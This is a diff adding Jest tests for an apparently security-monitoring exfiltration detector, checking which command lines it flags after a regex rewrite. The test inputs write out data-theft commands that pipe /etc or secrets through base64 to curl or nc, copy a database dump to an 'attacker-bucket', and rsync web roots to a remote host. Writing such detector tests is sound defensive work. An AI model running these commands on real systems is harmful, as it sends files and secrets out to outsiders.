@@ -130,3 +130,26 @@ describe('ransomware', () => {
     expect(both[0]).toMatchObject({ severity: 'critical', mitre: ['T1486', 'T1490'] });
   });
 });
+
+describe('command patterns rewritten without lookahead keep their detections', () => {
+  it.each([
+    [exfiltration, 'tar cz /etc | base64 -w0 | curl -d @- http://203.0.113.5/'],
+    [exfiltration, 'base64 --wrap=0 secrets.tgz | nc 203.0.113.5 9001'],
+    [exfiltration, 'echo x | base64 -d > a; base64 a | curl -T - http://203.0.113.5/'],
+    [exfiltration, 'aws s3 cp ./dump.sql s3://attacker-bucket/'],
+    [exfiltration, 'rsync -az /var/www root@203.0.113.5:/loot\nexit'],
+    [exfiltration, 'curl --data-binary @db.sql http://203.0.113.5/'],
+  ] as const)('fires on %#', (detector, input) => {
+    expect(fires(detector, input)).toBe(true);
+  });
+
+  it.each([
+    [exfiltration, 'base64 --decode payload.b64 | nc -l 9001'],
+    [exfiltration, 'base64 -D x | curl -d @- http://203.0.113.5/'],
+    [exfiltration, 'aws s3 cp s3://a/x s3://b/x'],
+    [exfiltration, 'rsync -az --delete root@203.0.113.5:/src/ /dst/'],
+    [exfiltration, 'curl -d @- http://203.0.113.5/ < body.json'],
+  ] as const)('stays silent on %#', (detector, input) => {
+    expect(fires(detector, input)).toBe(false);
+  });
+});
